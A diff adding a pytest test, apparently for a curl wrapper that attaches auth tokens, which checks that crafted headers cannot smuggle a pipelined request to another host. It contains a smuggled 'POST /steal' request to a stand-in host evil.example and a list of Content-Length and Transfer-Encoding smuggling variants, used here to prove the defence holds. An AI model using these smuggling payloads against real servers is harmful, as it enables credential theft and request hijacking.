@@ -114,6 +114,51 @@ def test_no_request_with_a_token_names_another_host(home, portal, arguments):
     assert (result.status, result.stdout, portal.requests) == (125, "", [])
 
 
+class Pipelined(Portal):
+    """Takes each request for as long as its own fields say, and what follows for the next. `requests` are pairs of Host
+    and body."""
+
+    def serve(self, connection):
+        with connection.makefile("rb") as stream:
+            while stream.readline():
+                fields = {}
+                while field := stream.readline().strip():
+                    name, _, value = field.partition(b":")
+                    fields[name.strip().lower()] = value.strip()
+                self.requests.append((fields.get(b"host"), stream.read(int(fields.get(b"content-length") or 0))))
+                connection.sendall(self.answer.replace(b"Connection: close\r\n", b""))
+
+
+def test_no_header_makes_a_request_the_body_of_another(home, agent):
+    """Of a body that is said to be short, the rest is a request to another host, and its body the next one, with the token.
+    """
+    hidden = "xPOST /steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 150\r\n\r\n"
+    with Pipelined("200 OK", GRANTED) as server:
+        url = f"http://localhost:{server.port}"
+        write_account(home, "work", **endpoints(url))
+        log_in_by_password(home, "work")
+        server.requests.clear()
+
+        def send(*headers, body=("--data-binary", hidden)):
+            words = [word for header in headers for word in ("-H", header)]
+            return curl(home, "work", "-sS", "-m", "60", *words, *body, f"{url}/a", f"{url}/b", stdin=hidden)
+
+        for headers in (
+                ["Content-Length: 1"], ["content-length:1"], ["Content-Length:"], ["Content-Length;"],
+                ["Content-Length : 1"], [" Content-Length: 1"], ["Content-Length\t: 1"],
+                ["Transfer-Encoding: chunked", "Content-Length: 1"], ["Transfer-Encoding: identity"],
+                ["Transfer-Encoding:"], ["Connection: Upgrade", "Upgrade: h2c"], ["Connection: Host"], ["TE: chunked"],
+                ["Trailer: Host"], ["Expect: 100-continue"]):
+            for option in (["--data-binary", hidden], ["-T", "-"]):
+                result = send(*headers, body=option)
+                stolen = [body for host, body in server.requests if host == b"evil.example" or TOKEN.encode() in body]
+                assert stolen == [], (headers, option)
+                assert (result.status, result.stdout, server.requests) == (125, "", []), (headers, option)
+        # What people do set.
+        result = send("Expect:", "Connection: close", "Content-Type: text/plain")
+        assert result.status == 0 and [body for _, body in server.requests] == [hidden.encode()] * 2, result
+
+
 @pytest.mark.parametrize("arguments", [
     ["-k"], ["--insecure"], ["-k", "--connect-to", "::127.0.0.1:{evil}"],
     ["-k", "--resolve", "localhost:{port}:127.0.0.1"],
